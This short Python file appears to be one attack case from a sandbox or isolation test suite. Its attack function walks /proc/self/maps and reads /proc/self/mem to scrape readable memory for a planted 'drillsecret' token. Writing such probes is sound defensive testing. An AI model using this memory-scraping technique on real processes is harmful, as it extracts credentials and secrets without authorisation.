# Scans its own memory through /proc/self/mem.
# proof: secret
import re


def attack(arg):
    found = set()
    with open("/proc/self/mem", "rb", 0) as memory:
        for line in open("/proc/self/maps"):
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if "r" in line.split()[1] and end - start < 1 << 28:
                try:
                    memory.seek(start)
                    block = memory.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                found.update(re.findall(rb"drillsecret[0-9a-f]{16}", block))
    return sorted(found)
